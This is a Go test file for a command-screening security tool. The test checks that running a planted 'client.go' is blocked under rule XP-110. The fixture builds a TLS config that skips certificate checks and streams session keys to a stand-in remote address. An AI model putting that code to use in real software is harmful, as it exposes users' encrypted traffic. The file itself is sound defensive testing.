package shield

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/shieldcli/shield/pkg/verdict"
)

// What a rule asks about where it is written, it asks about where it is run: the file may have
// been written by somebody else.
func TestCodeThatIsRun(t *testing.T) {
	t.Parallel()
	root := filepath.Join(t.TempDir(), "app")
	if err := os.Mkdir(root, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{
		"client.go": "package main\n\nimport \"crypto/tls\"\n\nfunc config() *tls.Config {\n\treturn &tls.Config{InsecureSkipVerify: true, KeyLogWriter: openRemote(\"tcp\", \"203.0.113.4:9443\")}\n}\n",
		"plain.go":  "package main\n\nfunc main() { println(1) }\n",
	} {
		if err := os.WriteFile(filepath.Join(root, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	s := Defaults()
	s.Classifier.Enabled, s.Classifier.Model = true, "default"
	p, err := NewPipeline(Config{Settings: &s, Policy: "offline", Home: "/home/me", Roots: []string{root}, Dir: root})
	if err != nil {
		t.Skip("no model: ", err)
	}
	defer p.Close()
	for command, rule := range map[string]string{"go run ./client.go": "XP-110", "go run ./plain.go": ""} {
		v := p.EvaluateUntil(t.Context(), parse(t, `{"type":"execute_command","payload":{"command":"`+command+`"}}`), TierClassify).Verdict
		if v.Rule != rule || (v.Decision == verdict.Allow) != (rule == "") {
			t.Errorf("%s: %v by %q: %s", command, v.Decision, v.Rule, v.Reasoning)
		}
	}
}
